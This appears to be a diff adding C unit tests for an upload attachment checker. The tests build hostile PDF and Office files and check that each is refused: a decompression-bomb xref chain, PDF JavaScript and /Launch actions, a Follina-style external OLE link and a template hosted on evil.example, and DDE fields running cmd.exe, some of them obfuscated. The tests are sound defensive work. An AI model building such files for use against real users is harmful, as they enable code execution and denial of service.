@@ -1,5 +1,7 @@
 /* Tests of attach_check (src/attach/upload.c, ooxml.c, pdfparse.c): genuine
  * LibreOffice files pass, hostile ones get a sentence naming the problem. */
+#include <zlib.h>
+
 #include "fixtures.h"
 #include "attach/attach_int.h"
 
@@ -324,6 +326,247 @@ static void test_pdf_hostile(void **state)
 	buf_release(&pdf);
 }
 
+/* Review finding 2: n cross-reference streams chained through /Prev, each
+ * asking (through /Index and /W) for `rows` rows of 7 bytes but inflating
+ * to `zeros` bytes, then a classic table and trailer for objects 1-3. */
+static void make_xref_chain(int n, size_t zeros, unsigned rows, struct buf *out)
+{
+	char *z = xcalloc(zeros, 1);
+	uLongf clen = compressBound(zeros);
+	char *c = xmalloc(clen);
+	assert_int_equal(compress2((Bytef *)c, &clen, (const Bytef *)z, zeros, 9), Z_OK);
+	size_t offs[4], prev = 0;
+	buf_init(out, 64 << 20);
+	assert_int_equal(buf_puts(out, "%PDF-1.7\n"), 0);
+	offs[1] = out->len;
+	assert_int_equal(buf_puts(out, "1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"), 0);
+	offs[2] = out->len;
+	assert_int_equal(buf_puts(out, "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"), 0);
+	offs[3] = out->len;
+	assert_int_equal(buf_puts(out, "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>\nendobj\n"), 0);
+	for (int k = 0; k < n; k++) {
+		size_t at = out->len;
+		assert_int_equal(buf_printf(out, "%d 0 obj\n<< /Type /XRef /Size %d /Root 1 0 R /W [1 4 2] /Index [0 %u] "
+					    "/Filter /FlateDecode /Length %lu", 10 + k, 10 + n, rows, (unsigned long)clen), 0);
+		if (k)
+			assert_int_equal(buf_printf(out, " /Prev %zu", prev), 0);
+		assert_int_equal(buf_puts(out, " >>\nstream\n"), 0);
+		assert_int_equal(buf_append(out, c, clen), 0);
+		assert_int_equal(buf_puts(out, "\nendstream\nendobj\n"), 0);
+		prev = at;
+	}
+	size_t x = out->len;
+	assert_int_equal(buf_puts(out, "xref\n0 4\n0000000000 65535 f \n"), 0);
+	for (int k = 1; k <= 3; k++)
+		assert_int_equal(buf_printf(out, "%010zu 00000 n \n", offs[k]), 0);
+	assert_int_equal(buf_printf(out, "trailer\n<< /Size %d /Root 1 0 R /Prev %zu >>\nstartxref\n%zu\n%%%%EOF\n",
+				    10 + n, prev, x), 0);
+	free(z);
+	free(c);
+}
+
+static void test_pdf_inflate_budget(void **state)
+{
+	struct buf f;
+	struct pdf p;
+	const char *msg = NULL;
+
+	/* the reviewer's file: 63 streams of ~32 MiB, each needing one row */
+	make_xref_chain(63, (32 << 20) - 65536, 1, &f);
+	assert_true(f.len < 3 << 20);
+	assert_int_equal(attach__pdf_open(buf_slice(&f), &p, &msg), 0);
+	assert_int_equal(p.nsections, 64);
+	/* 7 bytes a section were needed and no more came out (it was 2 GiB) */
+	assert_int_equal(p.inflated, 63 * 7);
+	attach__pdf_release(&p);
+	accepted(buf_slice(&f), ATTACH_PDF);
+	buf_release(&f);
+
+	/* rows the streams really ask for: 1 MiB of rows each, 63 of them,
+	 * stop at the budget */
+	make_xref_chain(63, (size_t)7 << 20, 1 << 20, &f);
+	assert_int_equal(attach__pdf_open(buf_slice(&f), &p, &msg), -EINVAL);
+	assert_true(p.over_budget);
+	assert_int_equal(p.inflated, PDF_INFLATE_BUDGET);
+	attach__pdf_release(&p);
+	refused(buf_slice(&f), "unpack to more than 64 MiB");
+	buf_release(&f);
+}
+
+/* The fixture PDF with an incremental update: its catalog again with
+ * `extra` entries added. */
+static void pdf_with_catalog(const char *extra, struct buf *out)
+{
+	struct buf pdf, cat = BUF_INIT(1 << 20);
+	struct pdf p;
+	const char *msg;
+	fixture("pdf", &pdf);
+	assert_int_equal(attach__pdf_open(buf_slice(&pdf), &p, &msg), 0);
+	assert_int_equal(attach__pdf_object(&p, p.root, &cat), 0);
+	buf_init(out, 16 << 20);
+	assert_int_equal(buf_put_slice(out, buf_slice(&pdf)), 0);
+	size_t at = out->len;
+	char *end = memrchr(cat.p, '>', cat.len);
+	assert_non_null(end);
+	assert_int_equal(buf_printf(out, "%u 0 obj\n%.*s %s >>\nendobj\n", p.root.num, (int)(end - 1 - cat.p), cat.p,
+				    extra), 0);
+	size_t x = out->len;
+	assert_int_equal(buf_printf(out, "xref\n%u 1\n%010zu 00000 n \ntrailer\n<< /Size %u /Root %u 0 R /Prev %llu >>\n"
+				    "startxref\n%zu\n%%%%EOF\n", p.root.num, at, p.size, p.root.num,
+				    (unsigned long long)p.startxref, x), 0);
+	attach__pdf_release(&p);
+	buf_release(&cat);
+	buf_release(&pdf);
+}
+
+static void test_pdf_active(void **state)
+{
+	static const struct { const char *extra, *want; } cases[] = {
+		{ "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", "JavaScript (/JavaScript)" },
+		{ "/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>", "JavaScript (/JavaScript)" },
+		{ "/OpenAction << /S /Launch /F (cmd.exe) >>", "/Launch" },
+		{ "/Names << /EmbeddedFiles << /Names [] >> >>", "/EmbeddedFiles" },
+		{ "/OpenAction << /S /GoToR /F (x.pdf) /D [0 /Fit] >>", "/GoToR" },
+		{ "/OpenAction << /S /GoToE /D [0 /Fit] >>", "/GoToE" },
+		{ "/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://x/) >> >>", "/SubmitForm" },
+		{ "/OpenAction << /S /ImportData /F (x.fdf) >>", "/ImportData" },
+		{ "/X << /Subtype /RichMedia >>", "/RichMedia" },
+	};
+	struct buf f;
+	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
+		pdf_with_catalog(cases[i].extra, &f);
+		refused(buf_slice(&f), cases[i].want);
+		buf_release(&f);
+	}
+	/* URI actions are what our own beacon is */
+	pdf_with_catalog("/OpenAction << /S /URI /URI (https://example.com/) >>", &f);
+	accepted(buf_slice(&f), ATTACH_PDF);
+	buf_release(&f);
+
+	/* the same JavaScript inside an object stream: not in the file's bytes */
+	pdf_with_catalog("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", &f);
+	write_file(FIXTURE_DIR "/js.pdf", buf_slice(&f));
+	buf_release(&f);
+	int st;
+	_cleanup_free_ char *o = run_cmd("qpdf --object-streams=generate --compress-streams=y " FIXTURE_DIR "/js.pdf "
+					 FIXTURE_DIR "/js-objstm.pdf", &st);
+	if (st != 0 && st != 3)
+		fail_msg("qpdf: %s", o);
+	read_file(FIXTURE_DIR "/js-objstm.pdf", &f);
+	assert_null(memmem(f.p, f.len, "JavaScript", 10));
+	assert_non_null(memmem(f.p, f.len, "/ObjStm", 7));
+	refused(buf_slice(&f), "JavaScript");
+	buf_release(&f);
+}
+
+static void docx_with(const char *name, const char *from, const char *to, struct buf *out)
+{
+	struct buf docx, part;
+	fixture("docx", &docx);
+	size_t n = 0;
+	_cleanup_free_ char *old = zip_entry(buf_slice(&docx), name, &n);
+	if (from) {
+		assert_non_null(old);
+		replace((struct slice){ old, n }, from, to, &part);
+	} else {
+		buf_init(&part, 0);
+		assert_int_equal(buf_puts(&part, to), 0);
+	}
+	const char *names[] = { name };
+	struct slice data[] = { buf_slice(&part) };
+	zip_edit(buf_slice(&docx), names, data, 1, out);
+	buf_release(&part);
+	buf_release(&docx);
+}
+
+#define RELS_HEAD "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+#define REL(type, target, mode) "<Relationship Id=\"rId99\" Type=\"" REL_NS "/" type "\" Target=\"" target "\"" mode "/>"
+
+static void test_ooxml_active(void **state)
+{
+	struct buf f;
+
+	docx_with("word/_rels/settings.xml.rels", NULL,
+		  RELS_HEAD REL("attachedTemplate", "http://evil.example/t.dotm", " TargetMode=\"External\"") "</Relationships>", &f);
+	refused(buf_slice(&f), "the document links an external template (word/_rels/settings.xml.rels): not accepted");
+	buf_release(&f);
+
+	docx_with("word/_rels/document.xml.rels", "</Relationships>",
+		  REL("oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html", " TargetMode=\"External\"")
+		  "</Relationships>", &f);
+	refused(buf_slice(&f), "external OLE object (the Follina pattern)");
+	buf_release(&f);
+
+	docx_with("word/_rels/document.xml.rels", "</Relationships>", REL("oleObject", "embeddings/o.bin", "") "</Relationships>", &f);
+	refused(buf_slice(&f), "embedded OLE object");
+	buf_release(&f);
+
+	docx_with("word/_rels/document.xml.rels", "</Relationships>", REL("image", "file://evil/share/x.png", " TargetMode=\"External\"") "</Relationships>", &f);
+	refused(buf_slice(&f), "not on an http(s) server");
+	buf_release(&f);
+
+	docx_with("word/_rels/document.xml.rels", "</Relationships>", REL("frame", "http://evil.example/", " TargetMode=\"External\"") "</Relationships>", &f);
+	refused(buf_slice(&f), "external frame");
+	buf_release(&f);
+
+	/* hyperlinks and linked http(s) images stay */
+	docx_with("word/_rels/document.xml.rels", "</Relationships>",
+		  REL("hyperlink", "file://anything/at/all", " TargetMode=\"External\"")
+		  "<Relationship Id=\"rId98\" Type=\"" REL_IMAGE "\" Target=\"https://example.com/a.png\" TargetMode=\"External\"/>"
+		  "</Relationships>", &f);
+	accepted(buf_slice(&f), ATTACH_DOCX);
+	buf_release(&f);
+
+	docx_with("word/embeddings/oleObject1.bin", NULL, "MZ", &f);
+	refused(buf_slice(&f), "embedded object or file (embeddings/)");
+	buf_release(&f);
+	docx_with("word/activeX/activeX1.xml", NULL, "<ax:ocx xmlns:ax=\"x\"/>", &f);
+	refused(buf_slice(&f), "ActiveX");
+	buf_release(&f);
+
+	/* DDE: split over runs, entity-encoded, in a simple field, hidden behind a nested field */
+	static const char *const dde[][2] = {
+		{ "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r>"
+		  "<w:instrText xml:space=\"preserve\">EAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</w:instrText></w:r>"
+		  "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>", "DDE field" },
+		{ "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> &#68;<![CDATA[de]]> x y</w:instrText></w:r>"
+		  "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>", "DDE field" },
+		{ "<w:p><w:fldSimple w:instr=\" ddeauto x y\"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>", "DDE field" },
+		{ "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
+		  "<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
+		  "<w:r><w:instrText> x y</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>",
+		  "keyword comes from another field" },
+	};
+	for (size_t i = 0; i < ARRAY_SIZE(dde); i++) {
+		_cleanup_free_ char *to = xasprintf("<w:body>%s", dde[i][0]);
+		docx_with("word/document.xml", "<w:body>", to, &f);
+		refused(buf_slice(&f), dde[i][1]);
+		buf_release(&f);
+	}
+	/* an ordinary field is fine, and "dde" inside a word is no keyword */
+	docx_with("word/document.xml", "<w:body>",
+		  "<w:body><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> HYPERLINK \"https://x/hidden\"</w:instrText></w:r>"
+		  "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>", &f);
+	accepted(buf_slice(&f), ATTACH_DOCX);
+	buf_release(&f);
+
+	/* xlsx: macro sheets, DDE links */
+	struct buf xlsx;
+	fixture("xlsx", &xlsx);
+	const char *names[] = { "xl/macrosheets/sheet1.xml" };
+	struct slice data[] = { SLICE_LIT("<xm:macrosheet xmlns:xm=\"x\"/>") };
+	zip_edit(buf_slice(&xlsx), names, data, 1, &f);
+	refused(buf_slice(&f), "Excel 4.0 macro sheets");
+	buf_release(&f);
+	const char *xl[] = { "xl/externalLinks/externalLink1.xml" };
+	struct slice xd[] = { SLICE_LIT("<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
+					"<ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>") };
+	zip_edit(buf_slice(&xlsx), xl, xd, 1, &f);
+	refused(buf_slice(&f), "DDE link");
+	buf_release(&f);
+	buf_release(&xlsx);
+}
+
 static void test_xml_scanner(void **state)
 {
 	assert_int_equal(attach__xml_check(SLICE_LIT("<a><b x='1' y=\"2\"/><!-- <c> --><![CDATA[<d>]]></a>")), 0);
@@ -377,6 +620,9 @@ int main(void)
 		cmocka_unit_test(test_xlsx_structure),
 		cmocka_unit_test(test_pdf_hostile),
 		cmocka_unit_test(test_xml_scanner),
+		cmocka_unit_test(test_pdf_inflate_budget),
+		cmocka_unit_test(test_pdf_active),
+		cmocka_unit_test(test_ooxml_active),
 	};
 	return cmocka_run_group_tests(tests, NULL, teardown);
 }
